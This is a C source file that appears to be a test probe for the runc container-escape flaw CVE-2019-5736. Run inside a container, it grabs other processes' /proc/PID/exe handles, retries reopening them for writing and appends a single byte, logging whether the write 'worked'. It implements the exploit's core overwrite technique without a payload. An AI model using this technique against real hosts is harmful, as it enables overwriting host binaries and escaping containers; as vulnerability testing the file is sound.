/* exe_writer OUT SECONDS: a CVE-2019-5736 probe, run inside a container. Until SECONDS pass, open
 * /proc/PID/exe of every other process it can see (O_PATH, as the attack does while the binary runs),
 * and keep retrying to reopen those through /proc/self/fd for writing and append one byte.
 * Writes "SAW <pid> <exe>" for each exe it held, "WROTE <pid> <exe>" on a successful write (the
 * attack worked), and "done" at the end. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

struct held {
	int fd, pid;
	char exe[256];
};

static struct held held[MAX_HELD];
static int n_held;

static bool already(int pid)
{
	for (int i = 0; i < n_held; i++)
		if (held[i].pid == pid)
			return true;
	return false;
}

/* A binary still running refuses writers (ETXTBSY): keep the fd and retry until it has exited. */
static void try_write(FILE *out)
{
	for (int i = 0; i < n_held; i++) {
		char path[64];
		int fd;

		if (held[i].fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0) {
			if (errno != ETXTBSY) {
				close(held[i].fd);
				held[i].fd = -1;
			}
			continue;
		}
		if (write(fd, "", 1) == 1) {
			fprintf(out, "WROTE %d %s\n", held[i].pid, held[i].exe);
			fflush(out);
		}
		close(fd);
		close(held[i].fd);
		held[i].fd = -1;
	}
}

int main(int argc, char **argv)
{
	FILE *out = argc > 1 ? fopen(argv[1], "w") : stdout;
	time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 10);

	if (!out)
		return 1;
	setvbuf(out, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		if (!d)
			return 1;
		while ((de = readdir(d)) && n_held < MAX_HELD) {
			char path[64];
			int pid = atoi(de->d_name), fd;
			ssize_t n;

			if (pid <= 1 || pid == getpid() || already(pid))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			held[n_held].fd = fd;
			held[n_held].pid = pid;
			n = readlink(path, held[n_held].exe, sizeof(held[n_held].exe) - 1);
			held[n_held].exe[n > 0 ? n : 0] = '\0';
			fprintf(out, "SAW %d %s\n", pid, held[n_held].exe);
			n_held++;
		}
		closedir(d);
		try_write(out);
	}
	try_write(out);
	fprintf(out, "done\n");
	return 0;
}
